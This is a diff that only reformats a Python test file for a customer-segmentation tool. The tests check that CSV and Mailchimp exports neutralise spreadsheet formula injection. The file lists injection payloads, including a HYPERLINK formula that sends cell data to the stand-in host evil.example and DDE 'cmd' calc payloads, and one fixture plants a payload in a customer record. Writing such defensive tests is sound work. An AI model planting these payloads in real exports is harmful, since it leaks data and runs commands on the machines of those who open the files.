@@ -21,16 +21,25 @@ from shopseg.workspace import Workspace
 
 runner = CliRunner()
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-ATTACKS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
-           "\t=1+1", "\r=1+1", "\uff1d1+1"]  # fmt: skip
+ATTACKS = [
+    HYPERLINK,
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+]
 
 
 def test_formula_cells_get_a_leading_quote_and_nothing_else_changes():
-    table = pd.DataFrame({
-        "city": ATTACKS + ["Berlin", None],
-        "text_number": ["-12.5", "+3", "1e-3", "-", "=", "a=b", "x@y.example", "", "0"],
-        "amount": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0],
-    })  # fmt: skip
+    table = pd.DataFrame(
+        {
+            "city": ATTACKS + ["Berlin", None],
+            "text_number": ["-12.5", "+3", "1e-3", "-", "=", "a=b", "x@y.example", "", "0"],
+            "amount": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0],
+        }
+    )
     safe = neutralise_formulas(table)
     assert safe["city"].tolist()[: len(ATTACKS)] == ["'" + a for a in ATTACKS]
     assert safe["city"].iloc[-2] == "Berlin" and pd.isna(safe["city"].iloc[-1])
@@ -45,8 +54,12 @@ def poisoned(action_ws: Workspace) -> tuple[Workspace, str]:
     members, _ = segment_customer_ids(action_ws, "Champions")
     victim = action_ws.con.execute(
         "SELECT customer_id FROM customers WHERE email_marketing AND email IS NOT NULL AND list_contains(?, customer_id) "
-        "ORDER BY customer_id LIMIT 1", [members]).fetchone()[0]  # fmt: skip
-    action_ws.con.execute("UPDATE customers SET city = ?, country = '@SUM(1+9)' WHERE customer_id = ?", [HYPERLINK, victim])
+        "ORDER BY customer_id LIMIT 1",
+        [members],
+    ).fetchone()[0]
+    action_ws.con.execute(
+        "UPDATE customers SET city = ?, country = '@SUM(1+9)' WHERE customer_id = ?", [HYPERLINK, victim]
+    )
     return action_ws, victim
 
 
@@ -69,8 +82,10 @@ def test_exports_neutralise_formulas_and_keep_emails(poisoned, tmp_path, fmt):
 
 def test_mailchimp_export_neutralises_a_formula_in_the_id(action_ws, tmp_path):
     members, _ = segment_customer_ids(action_ws, "Champions")
-    victim = action_ws.con.execute("SELECT customer_id FROM customers WHERE email_marketing AND list_contains(?, customer_id) "
-                                   "ORDER BY 1 LIMIT 1", [members]).fetchone()[0]  # fmt: skip
+    victim = action_ws.con.execute(
+        "SELECT customer_id FROM customers WHERE email_marketing AND list_contains(?, customer_id) ORDER BY 1 LIMIT 1",
+        [members],
+    ).fetchone()[0]
     for table in ("customers", "customer_rfm", "customer_features", "orders"):
         action_ws.con.execute(f"UPDATE {table} SET customer_id = '=1+1' WHERE customer_id = ?", [victim])
     _, path = export_segment(action_ws, "Champions", fmt="mailchimp", out=tmp_path / "m.csv", min_size=1)
@@ -100,7 +115,9 @@ def test_report_regions_csv_is_neutralised(action_ws, tmp_path):
     path = action_ws.path
     action_ws.close()
     out = tmp_path / "regions.csv"
-    res = runner.invoke(app, ["-w", str(path), "report", "regions", "--by", "region", "--period", "all", "--csv", str(out)])
+    res = runner.invoke(
+        app, ["-w", str(path), "report", "regions", "--by", "region", "--period", "all", "--csv", str(out)]
+    )
     assert res.exit_code == 0, res.output
     text = out.read_text(encoding="utf-8")
     assert "'" + HYPERLINK.replace('"', '""') in text
